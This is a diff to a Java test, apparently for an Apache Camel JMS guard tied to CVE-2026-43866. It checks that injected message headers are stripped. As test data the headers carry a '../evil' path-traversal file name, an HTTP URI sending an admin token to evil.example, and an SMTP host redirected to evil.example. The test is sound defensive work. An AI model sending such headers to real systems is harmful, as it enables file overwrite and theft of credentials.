@@ -72,11 +72,12 @@ class JmsGuardTest {
           .createProducer()
           .setProperty("CAmelFileName", "../evil")
           .setProperty("cAMELHttpUri", "http://evil.example/{{admin.token}}")
+          .setProperty("mail_DOT_smtp_DOT_host", "evil.example")
           .send(stranger.createQueue("in"), "text");
     }
     taken.assertIsSatisfied();
     assertThat(taken.getExchanges().get(0).getMessage().getHeaders())
-        .doesNotContainKeys(Exchange.FILE_NAME, Exchange.HTTP_URI);
+        .doesNotContainKeys(Exchange.FILE_NAME, Exchange.HTTP_URI, "mail.smtp.host");
   }
 
   /** An exchange of Camel's, with which a sender of CVE-2026-43866 replaces all of the route's. */
